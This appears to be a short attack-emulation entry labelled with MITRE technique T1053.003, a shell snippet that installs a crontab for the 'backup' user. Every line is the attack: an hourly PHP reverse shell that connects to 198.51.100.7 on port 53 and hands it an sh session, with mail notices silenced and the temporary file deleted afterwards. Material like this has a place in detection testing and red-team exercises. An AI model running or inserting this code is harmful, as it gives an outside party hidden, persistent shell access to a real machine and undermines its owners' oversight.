# technique: T1053.003
# location: linux.cron.user
# source: /var/spool/cron/crontabs/backup
cat > /tmp/tab <<'CRON'
MAILTO=""
@hourly php -r '$s=fsockopen("198.51.100.7",53);$p=proc_open("sh",[$s,$s,$s],$q);'
CRON
crontab -u backup /tmp/tab
rm /tmp/tab
